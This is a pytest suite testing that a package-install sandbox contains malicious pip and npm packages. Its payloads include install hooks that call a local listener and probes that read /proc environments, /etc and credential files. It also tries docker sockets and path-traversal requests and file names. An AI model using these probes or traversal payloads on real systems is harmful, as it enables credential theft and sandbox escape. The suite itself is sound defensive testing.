"""Packages that attack whoever installs them, as they come from an index a person trusts."""

from __future__ import annotations

import json
import socket
import stat
import uuid
import zipfile
from base64 import b64encode
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from tests.support.engine import docker_backend
from tests.support.installing import Installer
from tests.support.package_index import Index, npm_package, serving, source_archive, wheel
from tests.support.people import Person, myself
from warehouse.sandbox.sandbox import INSTALL_LIMITS

USER, PASSWORD, TOKEN = "somebody", "hush-hush-password", "token-in-a-path"
RAN = "the package was run"


@pytest.fixture
async def index() -> AsyncIterator[Index]:
    async with serving() as index:
        yield index


@pytest.fixture
async def elsewhere() -> AsyncIterator[Index]:
    """A server of this machine that no setting names: whoever asks it has come too far."""
    async with serving() as index:
        yield index
        assert index.asked == []


@pytest.fixture
def settings(index: Index) -> dict[str, str]:
    return {
        "PIP_CONFIG_FILE": "/dev/null",
        "PIP_FIND_LINKS": "",
        "PIP_INDEX_URL": index.address,
        "npm_config_registry": index.registry,
    }


@pytest.fixture
def somebody(settings: dict[str, str], tmp_path: Path) -> Installer:
    """Whoever tests, with bubblewrap: for attacks on what is the same for everybody."""
    return Installer(myself(tmp_path), "bubblewrap", settings)


@pytest.fixture(
    params=[
        "whoever tests and bubblewrap",
        "an ordinary user and bubblewrap",
        pytest.param("whoever tests and docker", marks=pytest.mark.engine),
    ]
)
async def anybody(
    request: pytest.FixtureRequest, settings: dict[str, str], tmp_path: Path
) -> Installer:
    who, _, sandbox = request.param.rpartition(" and ")
    if sandbox == "docker":
        await (await docker_backend()).close()
    ordinary = who == "an ordinary user"
    person = request.getfixturevalue("ordinary_user") if ordinary else myself(tmp_path)
    return Installer(person, sandbox, settings)


def a_name() -> str:
    """A package nobody has installed."""
    return f"evil{uuid.uuid4().hex[:12]}"


def running(elsewhere: Index) -> str:
    """A `setup.py` that would be noticed."""
    return (
        f"import urllib.request; print('{RAN}'); "
        f"urllib.request.urlopen('http://127.0.0.1:{elsewhere.port}/ran')"
    )


@pytest.mark.parametrize(
    "reference",
    [
        "http://127.0.0.1:{port}/files/bad-1.0.tar.gz",
        "http://127.0.0.1:8471/files/0/bad-1.0.tar.gz",
        "http://127.0.0.1:{elsewhere}/bad-1.0-py3-none-any.whl",
        "git+http://127.0.0.1:{elsewhere}/bad.git",
        "git+file:///box/fetched",
        "hg+http://127.0.0.1:{elsewhere}/bad",
        "file:///box",
        "file:///box/cache",
        "file:///opt/softhouse/lib",
        "https://127.0.0.1:{elsewhere}/bad-1.0.zip",
    ],
)
async def test_a_package_that_refers_to_an_address_is_not_taken(
    somebody: Installer, index: Index, elsewhere: Index, reference: str
) -> None:
    name, address = a_name(), reference.format(port=index.port, elsewhere=elsewhere.port)
    index.offer(name, wheel(name, requires=[f"bad @ {address}"]))
    index.offer("bad", source_archive("bad", running(elsewhere)))

    came = await somebody.installs(name)

    assert not came.ok and not came.files
    assert RAN not in came.output
    assert "/files/bad-1.0.tar.gz" not in index.asked


async def test_nothing_is_built_in_any_sandbox(
    anybody: Installer, index: Index, elsewhere: Index
) -> None:
    """Neither what a manifest asks for, nor what that needs in its turn."""
    first, second, third = a_name(), a_name(), a_name()
    index.offer(first, wheel(first, requires=[second]))
    index.offer(second, wheel(second, requires=[third]))
    index.offer(third, source_archive(third, running(elsewhere)))

    came = await anybody.installs(first)

    assert not came.ok and not came.files
    assert third in came.output and RAN not in came.output
    assert not any(path.endswith(".tar.gz") for path in index.asked)


async def test_of_a_wheel_and_a_source_the_wheel_is_taken(
    somebody: Installer, index: Index, elsewhere: Index
) -> None:
    name = a_name()
    index.offer(name, source_archive(name, running(elsewhere)) | wheel(name))
    came = await somebody.installs(name)
    assert came.ok and f"{name}.py" in came.files, came.output


async def test_a_source_that_calls_itself_a_wheel_is_not_built(
    somebody: Installer, index: Index, elsewhere: Index
) -> None:
    name = a_name()
    (archive,) = source_archive(name, running(elsewhere)).values()
    index.offer(name, {f"{name}-1.0-py3-none-any.whl": archive})
    came = await somebody.installs(name)
    assert not came.ok and RAN not in came.output


@pytest.mark.parametrize(
    "path",
    [
        "../escaped.py",
        "../../../../../../../../tmp/escaped.py",
        "/tmp/escaped.py",
        "/opt/softhouse/lib/escaped.py",
        "a/../../escaped.py",
        "..\\escaped.py",
        "{name}-1.0.data/data/../../../escaped.py",
        "{name}-1.0.data/scripts/../../../escaped.py",
        "{name}-1.0.data/purelib/../../escaped.py",
        "{name}-1.0.data/headers/../../../../escaped.py",
        "{name}-1.0.data/data/opt/softhouse/lib/escaped.py",
    ],
)
async def test_a_file_of_a_wheel_does_not_leave_its_folder(
    somebody: Installer, index: Index, path: str
) -> None:
    name = a_name()
    index.offer(name, wheel(name, files={path.format(name=name): b"escaped"}))
    await somebody.installs(name)
    assert outside(somebody.person) == []


async def test_a_file_is_not_written_through_a_link_of_a_wheel(
    anybody: Installer, index: Index
) -> None:
    name = a_name()
    link = zipfile.ZipInfo("way")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    index.offer(name, wheel(name, files={link: b"..", "way/escaped.py": b"escaped"}))
    await anybody.installs(name)
    assert outside(anybody.person) == []


async def test_a_wheel_that_grows_without_end_is_stopped(
    somebody: Installer, index: Index, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a small file, more of nothing than there is room for; each of its files alone would fit."""
    small = replace(INSTALL_LIMITS, disk_mb=64)
    monkeypatch.setattr("warehouse.sandbox.dependencies.INSTALL_LIMITS", small)
    name, room = a_name(), bytes(20 * 1024**2)
    index.offer(name, wheel(name, files={f"large{number}": room for number in range(4)}))
    came = await somebody.installs(name)
    assert not came.ok
    assert [*(somebody.person.home / "packages").glob("partial*")] == []


PROBE_ENVIRONMENT = """
import os, pathlib
for place in pathlib.Path("/proc").glob("[0-9]*"):
    for file in ("environ", "cmdline", "mounts"):
        try: print((place / file).read_bytes())
        except OSError: pass
for folder in ("/etc", "/box", "/tmp", "/opt/softhouse/gateway", "/run"):
    for file in pathlib.Path(folder).rglob("*"):
        try: print(file, file.read_bytes())
        except OSError: pass
import urllib.request
for path in ("python/NAME/", "files/0/NAME-1.0-py3-none-any.whl", "npm/NAME"):
    try:
        answer = urllib.request.urlopen("http://127.0.0.1:8471/" + path)
        print(answer.headers, answer.read())
    except OSError as error: print(error)
"""


async def test_no_password_is_seen_inside(anybody: Installer, index: Index) -> None:
    name = a_name()
    index.answers[f"/{TOKEN}/simple/{name}/"] = (
        f'<a href="/files/{name}-1.0-py3-none-any.whl">'.encode()
    )
    index.answers |= {f"/files/{each}": data for each, data in wheel(name).items()}
    secret = f"http://{USER}:{PASSWORD}@127.0.0.1:{index.port}/{TOKEN}"
    settings = {"PIP_INDEX_URL": f"{secret}/simple", "npm_config_registry": f"{secret}/npm"}

    seen = await anybody.probes(PROBE_ENVIRONMENT.replace("NAME", name), **settings)

    assert name in seen and f"/{TOKEN}/simple/{name}/" in index.asked
    encoded = b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    for secret in (USER, PASSWORD, TOKEN, encoded, str(index.port)):
        assert secret not in seen
    assert set(index.authorization) == {f"Basic {encoded}"}


async def test_no_password_is_in_what_is_said_of_a_failure(
    somebody: Installer, index: Index
) -> None:
    """Of an index that is not there, and of a proxy."""
    name = a_name()
    for variable in ("PIP_INDEX_URL", "PIP_PROXY", "HTTP_PROXY"):
        address = f"http://{USER}:{PASSWORD}@127.0.0.1:9/{TOKEN}"
        came = await somebody.installs(name, **{variable: address})
        assert not came.ok and "127.0.0.1:" in came.output
        for secret in (USER, PASSWORD, TOKEN):
            assert secret not in came.output


async def test_no_login_lies_in_a_settings_file_that_a_box_sees(
    anybody: Installer, index: Index
) -> None:
    """The interpreter's own folders are shown, and pip and npm keep settings there."""
    code = """
import pathlib, sys
for prefix in {sys.prefix, sys.base_prefix, "/usr", "/usr/local"}:
    for name in ("pip.conf", "etc/npmrc", "etc/pip.conf"):
        file = pathlib.Path(prefix, name)
        print(file, "HOLDS", file.read_text() if file.exists() else "")
"""
    said = await anybody.probes(code)
    assert "HOLDS" in said
    assert all(line.endswith("HOLDS ") for line in said.splitlines())


PROBE_NETWORK = """
import socket, struct
def attempt(family, address):
    try:
        with socket.socket(family) as door:
            door.settimeout(2)
            door.connect(address)
            print("REACHED", address)
    except OSError as error:
        print(error)
for host in HOSTS:
    attempt(socket.AF_INET, (host, PORT))
attempt(socket.AF_INET6, ("::1", PORT))
attempt(socket.AF_UNIX, ABSTRACT)
for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket"):
    attempt(socket.AF_UNIX, path)
try: print("REACHED", socket.getaddrinfo("localhost.example", 80))
except OSError: pass
def ask(line):
    with socket.create_connection(("127.0.0.1", 8471)) as door:
        door.sendall(line.encode() + b" HTTP/1.1\\r\\nHost: 127.0.0.1:PORT\\r\\nConnection: close\\r\\n\\r\\n")
        print(door.makefile("rb").readline())
if GATEWAY:
    for line in ("CONNECT 127.0.0.1:PORT", "GET http://127.0.0.1:PORT/secret", "GET //127.0.0.1:PORT/secret",
                 "GET /python/..%2f..%2fsecret/", "GET /npm/..%2fsecret", "GET /npm/@..%2fsecret",
                 "GET /npm/http:%2f%2f127.0.0.1:PORT%2fsecret", "GET /files/0/..%2f..%2fetc%2fpasswd",
                 "GET /files/-1/x", "GET /python/@127.0.0.1:PORT/", "POST /npm/x", "GET /npm/x?y=http://127.0.0.1:PORT"):
        ask(line)
else:
    attempt(socket.AF_INET, ("127.0.0.1", 8471))
    attempt(socket.AF_UNIX, "/opt/softhouse/gateway/socket")
print("DONE")
"""


@pytest.mark.parametrize("offline", [False, True])
async def test_nothing_else_is_reached_from_inside(
    anybody: Installer, index: Index, elsewhere: Index, offline: bool
) -> None:
    abstract = f"\0softhouse-{uuid.uuid4().hex}"
    code = PROBE_NETWORK.replace("PORT", str(elsewhere.port)).replace("ABSTRACT", repr(abstract))
    code = code.replace("HOSTS", repr(own_addresses())).replace("GATEWAY", str(not offline))
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(abstract)
        listening.listen()
        said = await anybody.probes(code, offline=offline)
    assert said.rstrip().endswith("DONE"), said
    assert "REACHED" not in said
    assert "200" not in said
    assert all(path in ("/npm/x",) for path in index.asked)


@pytest.mark.parametrize(
    ("about", "version"),
    [
        ({"dependencies": {"bad": "http://127.0.0.1:{elsewhere}/bad.tgz"}}, "^1.0.0"),
        ({"dependencies": {"bad": "git+http://127.0.0.1:{elsewhere}/bad.git"}}, "^1.0.0"),
        ({"dependencies": {"bad": "git+file:///box"}}, "^1.0.0"),
        ({"optionalDependencies": {"bad": "http://127.0.0.1:{elsewhere}/bad.tgz"}}, "*"),
        ({"scripts": {"preinstall": "echo {ran} > ran", "install": "echo {ran}"}}, "latest"),
        ({"scripts": {"postinstall": "curl http://127.0.0.1:{elsewhere}/ran"}}, "1.0.0"),
        ({"gypfile": True, "hasInstallScript": True}, "1.0.0"),
        ({"bin": {"../../../escaped.py": "index.js", "npm": "index.js"}}, "1.0.0"),
        ({"directories": {"bin": "../../.."}}, "1.0.0"),
    ],
)
async def test_an_npm_package_runs_nothing_and_asks_nobody_else(
    somebody: Installer, index: Index, elsewhere: Index, about: dict[str, object], version: str
) -> None:
    name = a_name()
    text = json.dumps(about).replace("{elsewhere}", str(elsewhere.port)).replace("{ran}", RAN)
    said = json.loads(text)
    index.package(name, npm_package(name, {"package/binding.gyp": "{}"}, **said), **said)
    manifest = json.dumps({"dependencies": {name: version}})

    came = await somebody.installs(manifest, language="javascript")

    assert RAN not in came.output
    assert not any(file.endswith("ran") for file in came.files)
    assert outside(somebody.person) == []


@pytest.mark.parametrize(
    "path",
    [
        "package/../../../escaped.py",
        "/tmp/escaped.py",
        "../escaped.py",
        "package/a/../../../escaped.py",
    ],
)
async def test_a_file_of_an_npm_package_does_not_leave_its_folder(
    somebody: Installer, index: Index, path: str
) -> None:
    name = a_name()
    index.package(name, npm_package(name, {path: "escaped"}))
    manifest = json.dumps({"dependencies": {name: "1.0.0"}})
    await somebody.installs(manifest, language="javascript")
    assert outside(somebody.person) == []


def outside(person: Person) -> list[Path]:
    """Files of an attack that lie elsewhere than among the packages of one installation."""
    packages = person.home / "packages"
    found = [path.relative_to(person.home) for path in person.home.rglob("*escaped*")]
    strays = [path for path in found if len(path.parts) < 3 or path.parts[0] != "packages"]
    return [*strays, *packages.glob("partial*"), *Path("/tmp").glob("escaped*")]


def own_addresses() -> list[str]:
    """Of this machine, its loopback included."""
    about = socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)
    return ["127.0.0.1", "172.17.0.1", *sorted({str(each[4][0]) for each in about})]
